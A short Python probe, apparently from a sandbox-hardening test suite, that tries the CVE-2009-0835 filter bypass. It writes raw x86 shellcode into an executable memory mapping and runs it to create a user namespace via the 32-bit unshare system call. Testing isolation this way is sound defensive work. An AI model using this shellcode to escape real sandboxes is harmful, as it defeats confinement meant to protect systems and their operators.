"""Make a user namespace by a 32-bit system call, whose numbers differ (CVE-2009-0835).

See: https://nvd.nist.gov/vuln/detail/CVE-2009-0835
Layers: main bare
"""

# push rbx; mov eax, 310 (unshare of i386); mov ebx, CLONE_NEWUSER; int 0x80; pop rbx; ret
SHORT = b"\x53\xb8\x36\x01\x00\x00\xbb\x00\x00\x00\x10\xcd\x80\x5b\xc3"


def attempt():
    address = mapping(4096, 7, 0x22)
    ctypes.memmove(address, SHORT, len(SHORT))
    return float(ctypes.CFUNCTYPE(ctypes.c_int)(address)() == 0)
